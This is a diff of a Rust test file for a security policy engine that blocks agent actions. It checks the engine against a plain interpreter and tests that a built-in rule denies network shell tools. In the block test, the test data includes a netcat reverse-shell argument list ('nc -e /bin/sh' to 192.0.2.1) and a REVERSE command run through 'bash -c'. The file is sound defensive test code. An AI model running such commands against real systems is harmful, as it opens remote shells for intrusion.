@@ -1,5 +1,5 @@
 //! Compares the engine with a plain interpreter of the same policy, on events that cover the edge
-//! cases.
+//! cases. Rules that ask for commands are left out: they are compared where commands are judged.
 #![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::format_collect)]
 
 use std::collections::BTreeMap;
@@ -138,6 +138,7 @@ struct Expected {
     builtin: Option<usize>,
     decider: Option<usize>,
     overridden: Vec<usize>,
+    matching: Vec<usize>,
 }
 
 /// A plain implementation of the contract.
@@ -173,14 +174,21 @@ fn interpret(policy: &Policy, patterns: &[regex::Regex], line: &str) -> Option<E
             format!("{features} sae features @L{}", fields["layer"])
         }
     };
-    let matches = |origin: Origin| {
-        let subject = &subject;
-        (0..policy.rules.len()).filter(move |&at| {
-            let rule = &policy.rules[at];
-            rule.origin == origin && rule.on.contains(&kind) && patterns[at].is_match(subject)
-        })
-    };
     let verdict = |at: usize| policy.rules[at].verdict;
+    let mut scratch = Scratch::default();
+    let event = sentry_core::event::parse(line.as_bytes(), &mut scratch).ok()?;
+    let names: Vec<&str> = event.other_names().collect();
+    // A destination in disguise counts against it, never for it.
+    let is_match = |at: usize| {
+        let is_match = |text: &str| patterns[at].is_match(text);
+        let is_other = verdict(at) != Verdict::Allow && names.iter().any(|name| is_match(name));
+        policy.rules[at].on.contains(&kind) && (is_match(&subject) || is_other)
+    };
+    let matching: Vec<usize> = (0..policy.rules.len()).filter(|at| is_match(*at)).collect();
+    let matches = |origin: Origin| {
+        let matching = matching.iter().copied();
+        matching.filter(move |&at| policy.rules[at].origin == origin)
+    };
     // 1. Of the site's rules the first that matches.
     let site = matches(Origin::Site).next();
     // 2. Of the built-in rules that it does not override, a block, otherwise an escalation; the
@@ -206,6 +214,7 @@ fn interpret(policy: &Policy, patterns: &[regex::Regex], line: &str) -> Option<E
         builtin,
         decider,
         overridden,
+        matching,
     })
 }
 
@@ -251,12 +260,13 @@ fn agree(engine: &Engine, patterns: &[regex::Regex], line: &str) -> Option<(Even
     );
     for traced in &trace.rules {
         let at = traced.rule as usize;
-        let found = patterns[at].find(&subject);
-        let outcome = match (found, rule) {
-            (None, _) => Outcome::NoMatch,
-            (Some(_), decider) if decider == Some(at) => Outcome::Decided,
-            (Some(_), _) if expected.overridden.contains(&at) => Outcome::Overridden,
-            (Some(_), _) => Outcome::Shadowed,
+        let is_matching = expected.matching.contains(&at);
+        let found = patterns[at].find(&subject).filter(|_| is_matching);
+        let outcome = match rule {
+            _ if !is_matching => Outcome::NoMatch,
+            decider if decider == Some(at) => Outcome::Decided,
+            _ if expected.overridden.contains(&at) => Outcome::Overridden,
+            _ => Outcome::Shadowed,
         };
         assert_eq!(traced.outcome, outcome, "{line}");
         let span = found.map(|found| {
@@ -303,7 +313,7 @@ fn agrees_with_a_plain_interpreter_on_the_corpus_and_the_session() {
     }
     let session = std::fs::read_to_string(format!("{root}examples/sentry.acl")).unwrap();
     for source in ["", &session] {
-        let policy = check(source, &|_| None).policy.unwrap();
+        let policy = of_patterns(source);
         let patterns = patterns(&policy);
         let engine = Engine::new(policy).unwrap();
         let (mut events, mut decided) = (0, 0);
@@ -315,8 +325,15 @@ fn agrees_with_a_plain_interpreter_on_the_corpus_and_the_session() {
                 }
             }
         }
-        assert!(events > 700 && decided > 100, "{decided} of {events}");
+        assert!(events > 700 && decided > 70, "{decided} of {events}");
     }
+}
+
+/// The policy without the rules that ask for commands.
+fn of_patterns(source: &str) -> Policy {
+    let mut policy = check(source, &|_| None).policy.unwrap();
+    policy.rules.retain(|rule| rule.pattern.is_some());
+    policy
 }
 
 fn patterns(policy: &Policy) -> Vec<regex::Regex> {
@@ -333,7 +350,7 @@ fn agrees_with_a_plain_interpreter_on_generated_events_and_policies() {
     let mut sides = BTreeMap::new();
     for round in 0..40 {
         let source = policy(&mut random, round % 12 * 3);
-        let policy = check(&source, &|_| None).policy.unwrap();
+        let policy = of_patterns(&source);
         let patterns = patterns(&policy);
         let engine = Engine::new(policy).unwrap();
         for index in 0..250 {
@@ -435,15 +452,20 @@ const NETCAT: &str = r#"rule "netcat" { on = ["ToolExec", "FileAccess"] match = 
 
 #[test]
 fn a_built_in_block_denies_by_itself_what_the_kernel_reported() {
-    let forged = ["/usr/bin/sudo", "-c", REVERSE];
-    assert_eq!(
-        target_from("", &exec(None, &forged)),
-        Some(TargetFrom::Argv)
-    );
-    let observed = exec(Some("/usr/bin/bash"), &forged);
+    let listener = ["/opt/nc", "-e", "/bin/sh", "192.0.2.1", "9"];
+    let argv = Some(TargetFrom::Argv);
+    assert_eq!(target_from("", &exec(None, &listener)), argv);
+    let observed = exec(Some("/usr/bin/ncat"), &listener);
     assert_eq!(target_from("", &observed), Some(TargetFrom::Observed));
-    let relative = exec(Some("bash"), &forged);
-    assert_eq!(target_from("", &relative), Some(TargetFrom::Argv));
+    assert_eq!(target_from("", &exec(Some("ncat"), &listener)), argv);
+    assert_eq!(
+        denial("", &observed),
+        (Some("/usr/bin/ncat".to_owned()), false)
+    );
+    // What a shell runs is judged, not the shell, and the kernel reported only the shell.
+    let shell = exec(Some("/usr/bin/bash"), &["/usr/bin/bash", "-c", REVERSE]);
+    assert_eq!(target_from("", &shell), argv);
+    assert_eq!(denial("", &shell), (Some("bash".to_owned()), false));
 }
 
 #[test]
